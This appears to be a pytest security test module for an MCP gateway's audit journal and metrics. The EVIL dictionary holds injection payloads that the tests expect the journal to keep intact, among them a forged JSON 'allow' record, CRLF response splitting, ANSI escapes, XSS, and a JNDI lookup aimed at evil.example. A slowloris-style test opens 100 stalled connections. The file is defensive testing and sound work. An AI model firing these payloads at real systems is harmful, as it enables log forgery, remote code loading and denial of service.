"""D01, D07, X02, X03, X09: what attackers write into the record and the metrics, and whom they keep waiting."""

import asyncio
import json
import re
from pathlib import Path
from typing import Any, Final

import httpx
import pytest

from attacks.rig import DENIED_TOOL, call, headers_of, records
from attacks.site import Site
from attacks.streams import event
from extproc.core.redaction import tokens
from extproc.edges.journal.proving import verify
from extproc.edges.journal.reader import journals
from plain import NO_AUTHORITY
from stack.servers.recorder import Arrival, json_reply, sse

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.stack]

EVIL: Final = {
    "line": '\n{"event":{"kind":"decision","effect":"allow"}}',
    "carriage-return": "\rHTTP/1.1 200 OK",
    "ansi": "\x1b[2J\x1b[1;31mgone",
    "line-separator": "a\u2028b\u2029c\u0085d",
    "nul": "a\x00b",
    "format": "%n%s%x{0}${jndi:ldap://evil.example/a}",
    "cef": "|dst=1.2.3.4 act=allow\\|x=y",
    "markup": "</script><script>alert(1)</script>",
    "direction": "\u202egnorw",
    "quote": '"},"effect":"allow"',
}


@pytest.mark.parametrize("kind", EVIL, ids=lambda kind: f"D07-{kind}")
async def test_what_a_client_writes_stays_inside_of_one_record(raw: Site, kind: str) -> None:
    words = EVIL[kind]
    before = len(records(raw.gateway.state, "decision"))
    asked = call(arguments={"text": words, words: [words]}, id=f"id {words}"[:200])
    asked["params"]["_meta"]["io.modelcontextprotocol/clientInfo"] = {"name": words, "version": words}
    raw.upstream.script = json_reply({"jsonrpc": "2.0", "id": asked["id"], "result": {"content": [words]}})
    heard = await raw.post("alice", asked, modern=True)
    assert heard.status == 200
    refused = await raw.post("alice", call(name=f"t{words}", modern=False, arguments={}))
    assert refused.refused
    for file in (raw.gateway.state / "journal").rglob("*.jsonl"):
        for line in file.read_bytes().split(b"\n")[:-1]:
            assert set(json.loads(line)) == {"event", "prev", "seq", "hash"}
            assert not re.search(rb"[\x00-\x1f\x7f]", line)
    allowed, denied = records(raw.gateway.state, "decision")[before:]
    assert (allowed["effect"], allowed["arguments"]["text"], allowed["client"]["name"]) == ("allow", words, words)
    assert denied["effect"] in {"deny", "reject"}
    assert [verify(folder).fault for folder in journals(raw.gateway.state)] == [None] * 2
    assert all(json.loads(line) for line in raw.gateway.service_log().splitlines() if line.startswith("{"))


async def test_d07_every_naughty_string_is_one_record_of_each_kind_and_intact(raw: Site, corpora: Path) -> None:
    """In arguments and each message of the answer; some of them as name of the client and subject of the token."""
    words = [text for text in json.loads((corpora / "blns" / "blns.dev.json").read_text("utf-8")) if text]
    groups = [words[at : at + 12] for at in range(0, len(words), 12)]

    async def said(number: int, texts: list[str]) -> None:
        asked = call(arguments={"texts": texts}, id=f"blns {number}")
        asked["params"]["_meta"]["io.modelcontextprotocol/clientInfo"] = {"name": texts[0], "version": "1"}
        who = subject(number, texts)
        raw.tokens[who] = raw.gateway.token(who, groups=["data-analysts"])
        heard = await raw.post(who, asked, modern=True)
        assert heard.status == 200, texts

    def subject(number: int, texts: list[str]) -> str:
        # one with a control character is refused (threat G08)
        return f"{number} {next((text for text in texts if text.isprintable()), '')}"[:200]

    async def script(arrival: Arrival, writer: asyncio.StreamWriter) -> None:
        await arrival.complete.wait()
        came = json.loads(arrival.body)
        texts = came["params"]["arguments"]["texts"]
        note = {"jsonrpc": "2.0", "method": "notifications/message", "params": {"level": "info", "data": texts}}
        result = {"jsonrpc": "2.0", "id": came["id"], "result": {"content": texts}}
        await sse(event(note), event(result))(arrival, writer)

    raw.upstream.script = script
    await asyncio.gather(*(said(number, texts) for number, texts in enumerate(groups)))
    told = records(raw.gateway.state, "decision", "message")
    for number, texts in enumerate(groups):
        (decision,) = [each for each in told if each["kind"] == "decision" and each["id"] == f"blns {number}"]
        # what looks like a password or a token to the recording is masked there, and nothing else is
        kept = tokens.mask(texts)
        assert decision["arguments"] == {"texts": kept}
        assert decision["client"]["name"] == kept[0]
        assert decision["principal"]["subject"] == tokens.mask(subject(number, texts))
        mine = [each for each in told if each["decision"] == decision["decision"]]
        note, result = (each for each in mine if each["kind"] == "message")
        assert note["payload"] == {"level": "info", "data": kept}
        assert result["payload"]["content"] == kept


async def test_the_events_of_a_call_bear_its_trace_its_session_and_its_decision(raw: Site) -> None:
    note = {"jsonrpc": "2.0", "method": "notifications/message", "params": {"level": "info", "data": "x"}}
    question = {"jsonrpc": "2.0", "id": "q", "method": "roots/list", "params": {}}
    streamed = sse(event(note), event(question), event({"jsonrpc": "2.0", "id": 1, "result": {}}))
    trace = "0af7651916cd43dd8448eb211c80319c"
    parent = f"00-{trace}-b7ad6b7169203331-01"
    in_meta = call(modern=False)
    in_meta["params"]["_meta"] = {"traceparent": parent}
    for number, (message, headers) in enumerate(((call(modern=False), {"traceparent": parent}), (in_meta, {}))):
        raw.upstream.script = json_reply({"jsonrpc": "2.0", "id": 1, "result": {}}, headers=[("mcp-session-id", "up")])
        session = await raw.session("alice")
        raw.upstream.script = streamed
        await raw.post("alice", message, mcp_session_id=session, **headers)
        decision = [each for each in raw.decisions(method="tools/call") if each.get("trace") == trace][number]
        outcome = await raw.outcome(decision=decision["decision"])
        kinds = ("message", "server_request")
        others = [each for each in records(raw.gateway.state, *kinds) if each["decision"] == decision["decision"]]
        assert [each["kind"] for each in others].count("message") == 3  # the question as it was answered in its place
        assert {"message", "server_request"} == {each["kind"] for each in others}
        for each in (*others, outcome):
            assert (each["decision"], each["trace"]) == (decision["decision"], trace)
            assert each["session"] == decision["session"] is not None
        numbers = [each["number"] for each in others if each["kind"] == "message"]
        assert numbers == [0, 1, 2]


async def test_d01_every_kind_of_answer_makes_a_record(raw: Site) -> None:
    before = {each["decision"] for each in raw.decisions()}
    raw.upstream.script = json_reply({"jsonrpc": "2.0", "id": 1, "result": {"content": []}})
    await raw.post("alice", call(), modern=True)
    await raw.post("alice", call(name=DENIED_TOOL), modern=True)
    await raw.post("alice", {"jsonrpc": "2.0", "id": 1, "method": "no/such"})
    raw.upstream.script = json_reply({"jsonrpc": "2.0", "id": 1, "error": {"code": 7, "message": "no"}})
    await raw.post("alice", call(), modern=True)
    raw.upstream.script = json_reply(b"no json")
    await raw.post("alice", call(), modern=True)
    made = [each for each in raw.decisions() if each["decision"] not in before]
    assert [each["effect"] for each in made] == ["allow", "deny", "reject", "allow", "allow"]
    await raw.outcome(decision=made[-1]["decision"])
    ended = {each["decision"]: each["result"] for each in records(raw.gateway.state, "outcome")}
    results = [ended[each["decision"]] for each in made if each["effect"] == "allow"]
    assert results == ["complete", "error", "withheld"]
    for each in made:
        assert each["principal"]["subject"] == "alice"
        assert each["policy"]
        assert each["reason"]


async def test_x02_x03_idle_streams_and_slow_bodies_keep_nobody_else_waiting(raw: Site) -> None:
    never = asyncio.Event()
    note = event({"jsonrpc": "2.0", "method": "notifications/tools/list_changed"})
    raw.upstream.script = sse(note, never.wait)
    slow_head = (
        b"POST /mcp HTTP/1.1\r\nhost: 127.0.0.1:%d\r\nauthorization: %s\r\ncontent-type: application/json\r\n"
        % (
            raw.gateway.port,
            raw.bearer("eve")["authorization"].encode(),
        )
    )
    writers = []
    for _ in range(100):
        _, writer = await asyncio.open_connection("127.0.0.1", raw.gateway.port)
        writer.write(slow_head + b"content-length: 100\r\n\r\n{")
        writers.append(writer)
    async with asyncio.TaskGroup() as tasks:
        opened = asyncio.Queue[int]()
        over = asyncio.Event()

        async def idle() -> None:
            async with raw.listen("bob") as stream:
                await stream.wait(1)
                opened.put_nowait(1)
                await over.wait()

        for _ in range(100):
            tasks.create_task(idle())
        for _ in range(100):
            await opened.get()
        raw.upstream.script = json_reply({"jsonrpc": "2.0", "id": 1, "result": {"content": []}})
        for _ in range(20):
            assert (await raw.post("alice", call(), modern=True)).status == 200
        over.set()
    for writer in writers:
        writer.close()


async def test_x09_no_caller_adds_a_label_to_the_metrics(raw: Site) -> None:
    raw.upstream.script = json_reply({"jsonrpc": "2.0", "id": 1, "result": {"content": []}})

    async def names() -> set[str]:
        async with httpx.AsyncClient(trust_env=False, verify=NO_AUTHORITY) as http:
            text = (await http.get(raw.gateway.metrics)).text
        return {line.rpartition(" ")[0] for line in text.splitlines() if line and line[0] != "#"}

    async def burst(word: str) -> None:
        for number in range(40):
            name = f"{word}-{number}"
            odd: dict[str, Any] = {"mcp_session_id": name, "user_agent": name}
            await raw.post(name, call(name=name, modern=False), **odd)
            await raw.post("alice", call(name=name, id=name), modern=True)
            await raw.post("alice", {"jsonrpc": "2.0", "id": 1, "method": name})
            await raw.http.request(
                "PUT" if number % 2 else "POST", f"{raw.gateway.base}/{name}", headers=headers_of({})
            )

    await burst("first")
    known = await names()
    await burst("second")
    assert await names() == known
    assert not [name for name in known if "first" in name]
